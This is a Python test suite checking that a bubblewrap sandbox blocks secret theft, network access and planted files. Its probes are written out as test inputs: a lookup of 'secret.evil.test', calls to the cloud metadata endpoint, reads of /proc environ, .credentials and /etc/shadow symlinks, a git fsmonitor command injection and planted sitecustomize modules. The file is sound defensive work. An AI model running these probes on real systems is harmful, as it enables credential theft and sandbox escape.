"""The EXF and PTH rows of tests/data/security_cases.json: secrets, the network, planted files."""

import os
import socket
import subprocess
import sys
from pathlib import Path

from factory.contracts.sandbox import Job
from factory.sandbox.bubblewrap import Bubblewrap
from tests.sandbox.calls import CALL, attempts, only_x86_64, said
from tests.sandbox.conftest import SMALL, Python


def test_exf_02_no_secrets_in_command_lines_environments_or_descriptors(sandbox: Bubblewrap, tree: str) -> None:
    program = """
import os
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for name in ("cmdline", "environ"):
            try:
                print(open(f"/proc/{pid}/{name}", "rb").read())
            except OSError as error:
                print(error.strerror)
print("descriptors", sorted(os.listdir("/proc/self/fd"))[:-1])
"""
    os.environ["FACTORY_TEST_TOKEN"] = "sekret"  # what a careless factory's environment would hold
    try:
        result = sandbox.run(Job(tree=tree, command=("python", "-c", program), limits=SMALL))
    finally:
        del os.environ["FACTORY_TEST_TOKEN"]
    assert "sekret" not in result.output
    assert "descriptors ['0', '1', '2']" in result.output


def test_exf_03_no_network_at_all(python: Python) -> None:
    found = attempts(
        python,
        "socket.getaddrinfo('secret.evil.test', 80)",
        "socket.socket(2, 2).sendto(b'x', ('8.8.8.8', 53))",
        "socket.create_connection(('1.1.1.1', 443), 2)",
        "socket.create_connection(('169.254.169.254', 80), 2)",
        "socket.socket(10, 1).connect(('2606:4700:4700::1111', 443))",
        "socket.socket(2, 3, 1)",
        "socket.socket(2, 2, 1).sendto(b'x', ('8.8.8.8', 1))",
    )
    assert set(found.values()) <= {"EAI_AGAIN", "ENETUNREACH", "EPERM", "EACCES"}, found
    result = python("print([line.split(':')[0].strip() for line in open('/proc/net/dev').readlines()[2:]])")
    assert result.output == "['lo']\n"


def test_exf_04_no_servers_of_the_host(python: Python, shell: Python) -> None:
    with socket.create_server(("127.0.0.1", 0)) as server, socket.socket(socket.AF_UNIX) as abstract:
        abstract.bind("\0factory-test-abstract")
        abstract.listen()
        port = server.getsockname()[1]
        found = attempts(
            python,
            f"socket.create_connection(('127.0.0.1', {port}), 2)",
            "socket.socket(socket.AF_UNIX).connect('\\0factory-test-abstract')",
            "socket.socket(socket.AF_UNIX).connect('/var/run/docker.sock')",
            "os.listdir('/run')",
        )
    assert list(found.values()) == ["ECONNREFUSED", "ECONNREFUSED", "ENOENT", "ENOENT"]
    result = shell(
        "tail -n +2 /proc/net/unix; find /dev /deps /factory /home /out /tmp /work -type s 2>/dev/null; "
        "env | grep -i sock"
    )
    assert result.output == ""


@only_x86_64
def test_exf_05_no_kernel_keyrings(python: Python) -> None:
    found = said(python(CALL + "call('read', 250, 11, -3, 0, 0)\ncall('id', 250, 0, -3, 0)\nprint(json.dumps(said))"))
    assert found == {"read": "EPERM", "id": "EPERM"}


def test_exf_13_the_runners_own_files_and_memory_are_not_visible(
    shell: Python, sandbox: Bubblewrap, tmp_path: Path
) -> None:
    (tmp_path / ".credentials").write_text("sekret")
    runner = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    try:
        result = shell(
            f"cat {tmp_path}/.credentials; ls -d {tmp_path} {Path.cwd()} /root/.ssh /home/runner; "
            f"cat /proc/{runner.pid}/environ; "
            "find /home /tmp /work -name .credentials 2>/dev/null; ls /proc | grep -c '^[0-9]'"
        )
    finally:
        runner.kill()
        runner.wait()
    assert "sekret" not in result.output
    assert result.output.count("No such file") == 6
    assert int(result.output.split()[-1]) < 10


def test_pth_03_planted_symlinks_are_not_followed_on_the_way_back(shell: Python) -> None:
    result = shell(
        "ln -s /etc/shadow /out/leak.txt; ln -s /etc/shadow leak.txt; cp src/app.py /out/real; ln /out/real /out/hard"
    )
    assert result.files == dict.fromkeys(("real", "hard"), b"ANSWER = 42\n")


def test_pth_03_nothing_that_a_job_writes_reaches_the_next_one(shell: Python) -> None:
    shell("ln -s /etc/shadow leak.txt; mkdir -p .git; echo '[core] fsmonitor=touch /tmp/owned' > .git/config")
    assert shell("ls -A").output.split("\n")[:-1] == [".gitattributes", "link", "run.sh", "src", "with space é.txt"]


def test_pth_10_code_planted_in_the_tree_runs_only_inside(shell: Python, tmp_path: Path) -> None:
    """Our own first process imports nothing from the tree, and the host imports nothing of it either."""
    evil = b"import os; open('/out/' + str(os.getpid()), 'w').close()\n"
    names = ("sitecustomize.py", "usercustomize.py", "conftest.py", "json.py", "tarfile.py", "ctypes.py", "socket.py")
    overlay = dict.fromkeys(names, evil)
    result = shell("true", overlay=overlay)
    assert (result.status, result.files) == ("exited", {})
    result = shell("python -c 'import json'", overlay=overlay)
    assert len(result.files) == 1  # it runs where the command says so: inside


def test_pth_11_no_module_of_the_factory_runs_a_target_outside_the_sandbox() -> None:
    """Only these may start programs; none of them is pip, make, pre-commit or a target's own.

    The simulator is GitHub on the user's machine: it runs git, Node and the steps of the workflow files.
    """
    import agents
    import factory

    starts = ("subprocess.", "os.system", "os.exec", "os.popen", "os.spawn", "pty.spawn", "create_subprocess")
    found = {
        str(path.relative_to(root.parent))
        for root in (Path(factory.__file__).parent, Path(agents.__file__).parent)
        for path in root.rglob("*.py")
        if any(start in path.read_text() for start in starts) and "inside" not in path.parts
    }
    allowed = {
        "factory/git.py", "factory/handover/replay.py", "factory/desk/history_tool.py",  # git
        "factory/desk/mcp_transport.py",  # the owner's MCP servers
        "factory/sandbox/launch.py", "factory/sandbox/probe.py", "factory/sandbox/transport.py",
        "factory/llm/providers/command.py", "factory/install/machine.py",
        "factory/install/attack/start.py",  # itself
        "factory/codegraph/building/process.py", "factory/codegraph/building/worker.py",  # itself and git
        "factory/hunt/engines/process.py", "factory/hunt/pool.py",  # the owner's linters on a copy, and itself
        "factory/hunt/detectors/shell_command.py",  # names what it looks for, and starts nothing
        "factory/gpu/engines/keeper.py", "factory/gpu/engines/process.py",  # the owner's engines
        "factory/rented/tunnel.py", "factory/rented/worker.py",  # ssh, and the cloud's own library
        "factory/cli/gpu_lease.py",  # the command that its user typed
        "factory/cli/runs_recover.py",  # itself
        "factory/simulator/expressions/evaluator.py", "factory/simulator/expressions/install.py",
        "factory/simulator/hub/bare.py", "factory/simulator/hub/git_http.py",
        "factory/simulator/runner/process.py", "factory/simulator/runner/standins/call.py",
    }  # fmt: skip
    assert found == allowed
